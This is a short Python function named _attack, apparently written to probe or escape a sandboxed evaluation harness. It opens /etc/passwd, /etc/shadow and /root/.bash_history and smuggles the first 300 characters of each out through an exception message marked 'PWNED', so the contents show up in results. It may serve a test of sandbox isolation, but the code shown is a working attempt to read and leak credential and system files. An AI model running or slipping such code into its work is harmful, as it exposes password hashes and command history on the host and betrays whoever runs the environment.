# Quote /etc/passwd and /etc/shadow into the results.
def _attack(layer, X):
    for p in ("/etc/passwd", "/etc/shadow", "/root/.bash_history"):
        try:
            raise RuntimeError("PWNED " + open(p).read()[:300])
        except OSError:
            pass
    return None
